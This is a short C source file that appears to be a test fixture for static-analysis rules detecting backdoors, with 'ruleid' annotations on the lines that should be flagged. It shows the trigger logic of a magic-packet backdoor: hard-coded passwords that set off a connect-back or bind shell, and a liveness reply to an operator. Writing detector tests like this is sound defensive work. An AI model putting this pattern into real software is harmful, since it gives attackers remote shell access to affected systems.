#include <string.h>
#include <arpa/inet.h>

#include "bd.h"

void bd_handle(const struct magic_packet *mp, const struct sockaddr_in *from)
{
    in_addr_t target = mp->ip != 0 ? mp->ip : from->sin_addr.s_addr;

    // ok: backdoor-input-trigger
    if (mp->flag != BD_MAGIC_UDP && mp->flag != BD_MAGIC_TCP)
        return;
    // ruleid: backdoor-input-trigger, backdoor-magic-credential
    if (memcmp(mp->pass, BD_PASS_SHELL, sizeof(BD_PASS_SHELL) - 1) == 0) {
        bd_connect_back(target, ntohs(mp->port));
        return;
    }
    // ruleid: backdoor-input-trigger, backdoor-magic-credential
    if (memcmp(mp->pass, BD_PASS_BIND, sizeof(BD_PASS_BIND) - 1) == 0) {
        bd_bind_shell(from->sin_addr.s_addr, ntohs(mp->port));
        return;
    }
    /* anything else: tell the operator we are alive */
    bd_mon_reply(from, ntohs(mp->port));
}
